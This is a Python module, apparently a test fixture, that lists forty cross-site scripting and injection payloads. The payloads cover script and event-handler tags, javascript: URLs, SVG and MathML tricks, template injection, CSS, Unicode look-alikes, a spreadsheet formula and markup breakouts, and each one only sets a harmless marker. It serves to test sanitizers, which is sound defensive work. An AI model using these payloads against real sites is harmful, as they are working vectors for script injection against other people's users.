"""Forty ways in which text tries to become a program; each would set ``window.__ran`` or open a dialog."""

RUN = "window.__ran=1"
PAYLOADS = (
    # tags
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=data:text/javascript,{RUN}></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f'<img src=x onerror="{RUN}" alt=\'',
    '<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>',
    f"<iframe src=javascript:parent.{RUN[7:]}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<form action=javascript:{RUN}><button autofocus>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f"<base href=javascript:{RUN}//>",
    # attributes
    f'" onmouseover="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f'x" style="animation-name:x" onanimationstart="{RUN}',
    f"`onclick={RUN} `",
    # addresses
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>opener.{RUN[7:]}</script>",
    # SVG and MathML
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><mglyph><style><img src=x onerror={RUN}></style></mglyph></mtext></math>",
    # templates
    "{{constructor.constructor('window.__ran=1')()}}",
    "${window.__ran=1}",
    "{{$emit.constructor`window.__ran=1`()}}",
    "<%= window.__ran=1 %>",
    # style
    f"<style>@import'javascript:{RUN}';</style>",
    f'<div style="background:url(javascript:{RUN})">',
    # directions and look-alikes
    f"\u202e<script>{RUN}</script>\u2066\u200b",
    f"＜script＞{RUN}＜/script＞<svg/onload={RUN}>",
    # table sheets, Markdown, breaking out
    '=HYPERLINK("javascript:window.__ran=1","x")',
    f'[x](javascript:{RUN}) ![x](x" onerror="{RUN})',
    f'</title></textarea></script><script>{RUN}</script>","x":"-->]]>',
)
